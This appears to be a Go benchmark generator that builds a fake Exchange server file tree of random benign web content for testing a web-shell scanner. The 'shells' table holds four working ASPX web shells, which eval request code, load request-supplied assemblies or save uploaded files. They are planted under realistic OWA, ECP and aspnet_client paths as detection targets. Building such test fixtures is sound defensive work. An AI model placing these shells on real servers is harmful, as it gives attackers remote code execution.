// Command filetree writes the evidence tree bench/files.sh scans: one
// Exchange server's web roots, Temporary ASP.NET Files, ProgramData and
// Windows\Temp, mostly benign web content (scripts, styles, images, pages,
// configuration, compiled pages) plus a few large binaries and a handful
// of the campaigns' web shells. The output is a pure function of the
// flags.
//
//	go run ./bench/filetree -out DIR [-size 5GB] [-files 100000] [-seed 1]
package main

import (
	"errors"
	"flag"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

func main() {
	out := flag.String("out", "", "folder to write the tree into (must not exist)")
	size := flag.String("size", "5GB", "total bytes, e.g. 500MB or 5GB")
	files := flag.Int("files", 100000, "number of files")
	seed := flag.Uint64("seed", 1, "random seed")
	flag.Parse()
	total, err := parseSize(*size)
	if err == nil && *out == "" {
		err = errors.New("-out is required")
	}
	if err == nil && *files < 100 {
		err = errors.New("-files must be at least 100")
	}
	if err == nil {
		err = write(*out, total, *files, *seed)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "filetree:", err)
		os.Exit(1)
	}
}

func parseSize(s string) (int64, error) {
	mult := int64(1)
	for _, u := range []struct {
		suffix string
		m      int64
	}{{"GB", 1 << 30}, {"MB", 1 << 20}, {"KB", 1 << 10}} {
		if v, ok := strings.CutSuffix(strings.ToUpper(s), u.suffix); ok {
			s, mult = v, u.m
			break
		}
	}
	n, err := strconv.ParseFloat(s, 64)
	if err != nil || n <= 0 {
		return 0, fmt.Errorf("bad size %q", s)
	}
	return int64(n * float64(mult)), nil
}

// A file kind: where such files live and how their content is made.
type kind struct {
	dirs  []string // below the server's C drive
	ext   string
	share float64 // of the files
	gen   func(g *gen, n int) []byte
}

const (
	exch = "Program Files/Microsoft/Exchange Server/V15/"
	prem = exch + "ClientAccess/Owa/prem/15.2.986.5/"
)

var kinds = []kind{
	{[]string{prem + "scripts/premium", prem + "scripts/mobile", exch + "ClientAccess/ecp/scripts", exch + "FrontEnd/HttpProxy/owa/auth/15.2.986/scripts"}, ".js", 0.30, (*gen).script},
	{[]string{prem + "resources/styles", exch + "ClientAccess/ecp/themes/resources", exch + "FrontEnd/HttpProxy/owa/auth/Current/themes/resources"}, ".css", 0.12, (*gen).style},
	{[]string{prem + "resources/images/0", exch + "ClientAccess/ecp/themes/images", "inetpub/wwwroot/images"}, ".png", 0.25, (*gen).image},
	{[]string{exch + "ClientAccess/ecp/Reporting", exch + "ClientAccess/ecp/Organize", exch + "ClientAccess/Owa/forms", "inetpub/wwwroot/app"}, ".aspx", 0.12, (*gen).page},
	{[]string{exch + "ClientAccess/ecp/DDI", exch + "ClientAccess/Owa/forms/premium", "inetpub/wwwroot/app"}, ".xml", 0.08, (*gen).xml},
	{[]string{"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/3f2a1b4c/9e8d7c6b", "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/ecp/1a2b3c4d/5e6f7a8b"}, ".dll", 0.05, (*gen).dll},
	{[]string{"ProgramData/Microsoft/Windows Defender/Support", "ProgramData/Microsoft/Diagnosis", "Windows/Temp"}, ".log", 0.08, (*gen).text},
}

type gen struct {
	rng   *rand.Rand
	bytes *rand.ChaCha8
	words []string
}

func write(out string, total int64, nfiles int, seed uint64) error {
	if _, err := os.Stat(out); err == nil {
		return fmt.Errorf("%s exists", out)
	}
	var key [32]byte
	key[0] = byte(seed)
	g := &gen{rng: rand.New(rand.NewPCG(seed, 0x5eed)), bytes: rand.NewChaCha8(key)}
	for range 4000 {
		g.words = append(g.words, g.word())
	}
	root := filepath.Join(out, "EXCH01", "C")

	// A fifth of the bytes in four large binaries (backups, a database
	// copy, an installer), the rest spread over the web content with a
	// log-normal size, scaled to the total.
	const nLarge = 4
	large := total / 5
	n := nfiles - nLarge - len(shells)
	sizes := make([]float64, n)
	var sum float64
	for i := range sizes {
		sizes[i] = math.Min(math.Exp(9.0+1.3*g.rng.NormFloat64()), 8<<20)
		sum += sizes[i]
	}
	scale := float64(total-large) / sum
	counts := map[string]int{}
	written := int64(0)
	for i, s := range sizes {
		k := pickKind(g, i)
		dir := k.dirs[g.rng.IntN(len(k.dirs))]
		// at most 1000 files a folder
		sub := dir + "/" + strconv.Itoa(counts[dir]/1000)
		counts[dir]++
		name := g.word() + strconv.Itoa(i) + k.ext
		data := k.gen(g, max(int(s*scale), 64))
		if err := put(root, sub+"/"+name, data); err != nil {
			return err
		}
		written += int64(len(data))
	}
	for i := range nLarge {
		name := []string{"ProgramData/Backup/exchange-config.bak", "ProgramData/Backup/edb-copy.bin", "ProgramData/Package Cache/ExchangeSetup.msi", "Windows/Temp/memory.bin"}[i]
		if err := putLarge(root, name, g, large/nLarge); err != nil {
			return err
		}
		written += large / nLarge
	}
	for _, sh := range shells {
		if err := put(root, sh.path, []byte(sh.data)); err != nil {
			return err
		}
	}
	fmt.Printf("%d files, %d MB in %s\n", nfiles, written>>20, out)
	return nil
}

// shells are the web shells hidden in the tree, so that matches are found.
var shells = []struct{ path, data string }{
	{exch + "FrontEnd/HttpProxy/owa/auth/Ykxa4tHB.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>`},
	{"inetpub/wwwroot/aspnet_client/system_web/Xb3k9pQw.aspx", `<script language="JScript" runat="server">function Page_Load(){eval(Request["code"],"unsafe");}</script>`},
	{"inetpub/wwwroot/aspnet_client/upload.aspx", `<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Request.PhysicalApplicationPath, thisFile.FileName)); %>`},
	{exch + "FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx", `<%@ Page Language="C#"%><%try{System.Reflection.Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["psi"].Value))).CreateInstance("c");}catch{}%>`},
}

func pickKind(g *gen, i int) kind {
	x := g.rng.Float64()
	for _, k := range kinds {
		if x < k.share {
			return k
		}
		x -= k.share
	}
	return kinds[0]
}

func put(root, rel string, data []byte) error {
	p := filepath.Join(root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	return os.WriteFile(p, data, 0o644)
}

func putLarge(root, rel string, g *gen, size int64) error {
	p := filepath.Join(root, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	f, err := os.Create(p)
	if err != nil {
		return err
	}
	buf := make([]byte, 4<<20)
	for left := size; left > 0; left -= int64(len(buf)) {
		n := int(min(left, int64(len(buf))))
		g.bytes.Read(buf[:n])
		if _, err := f.Write(buf[:n]); err != nil {
			f.Close()
			return err
		}
	}
	return f.Close()
}

const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

func (g *gen) word() string {
	n := 3 + g.rng.IntN(9)
	b := make([]byte, n)
	for i := range b {
		b[i] = letters[g.rng.IntN(len(letters))]
	}
	return string(b)
}

// fill appends text made of pieces to b until it holds n bytes.
func (g *gen) fill(b []byte, n int, piece func([]byte) []byte) []byte {
	for len(b) < n {
		b = piece(b)
	}
	return b[:n]
}

func (g *gen) w() string { return g.words[g.rng.IntN(len(g.words))] }

func (g *gen) script(n int) []byte {
	b := []byte("/* Copyright (c) Microsoft Corporation. All rights reserved. */\n")
	return g.fill(b, n, func(b []byte) []byte {
		switch g.rng.IntN(4) {
		case 0:
			return fmt.Appendf(b, "function %s(%s,%s){var %s=%s.%s(%s);if(%s!=null){return %s.%s;}return null;}\n", g.w(), g.w(), g.w(), g.w(), g.w(), g.w(), g.w(), g.w(), g.w(), g.w())
		case 1:
			return fmt.Appendf(b, "%s.prototype.%s=function(){this.%s=\"%s\";};", g.w(), g.w(), g.w(), g.w())
		case 2:
			return fmt.Appendf(b, "var %s=document.getElementById(\"%s\");%s.addEventListener(\"click\",%s,false);\n", g.w(), g.w(), g.w(), g.w())
		}
		return fmt.Appendf(b, "Type.registerNamespace(\"%s.%s\");", g.w(), g.w())
	})
}

func (g *gen) style(n int) []byte {
	return g.fill(nil, n, func(b []byte) []byte {
		return fmt.Appendf(b, ".%s .%s{font-family:\"Segoe UI\",Tahoma;color:#%06x;margin:%dpx %dpx}\n", g.w(), g.w(), g.rng.IntN(1<<24), g.rng.IntN(20), g.rng.IntN(20))
	})
}

func (g *gen) image(n int) []byte {
	b := make([]byte, n)
	g.bytes.Read(b)
	copy(b, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	return b
}

func (g *gen) page(n int) []byte {
	b := fmt.Appendf(nil, "<%%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.Management.ControlPanel.%s\" %%>\r\n<!DOCTYPE html>\r\n<html><head runat=\"server\"><title>%s</title></head><body>\r\n", g.w(), g.w())
	return g.fill(b, n, func(b []byte) []byte {
		return fmt.Appendf(b, "<div class=\"%s\"><asp:Label ID=\"%s\" runat=\"server\" Text=\"<%%$ Strings:%s %%>\" /></div>\r\n", g.w(), g.w(), g.w())
	})
}

func (g *gen) xml(n int) []byte {
	b := []byte("<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n")
	return g.fill(b, n, func(b []byte) []byte {
		return fmt.Appendf(b, "  <add key=\"%s\" value=\"%s\" type=\"Microsoft.Exchange.%s, Version=15.0.0.0\" />\r\n", g.w(), g.w(), g.w())
	})
}

func (g *gen) dll(n int) []byte {
	b := make([]byte, n)
	g.bytes.Read(b)
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	if n > 2000 {
		copy(b[600:], "This program cannot be run in DOS mode.")
		s := []byte(fmt.Sprintf("App_Web_%s.dll\x00get_Request\x00Page_Load\x00", g.w()))
		copy(b[n/2:], s)
	}
	return b
}

func (g *gen) text(n int) []byte {
	return g.fill(nil, n, func(b []byte) []byte {
		return fmt.Appendf(b, "2021-03-0%d %02d:%02d:%02d Info %s %s %s\r\n", 1+g.rng.IntN(9), g.rng.IntN(24), g.rng.IntN(60), g.rng.IntN(60), g.w(), g.w(), g.w())
	})
}
